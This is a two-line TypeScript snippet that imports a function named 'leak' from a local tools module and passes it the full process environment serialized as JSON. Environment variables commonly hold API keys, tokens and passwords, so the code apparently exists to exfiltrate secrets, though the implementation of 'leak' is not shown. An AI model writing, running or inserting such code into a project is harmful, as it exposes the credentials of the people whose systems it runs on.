import { leak } from './tools.ts';

leak(JSON.stringify(process.env));
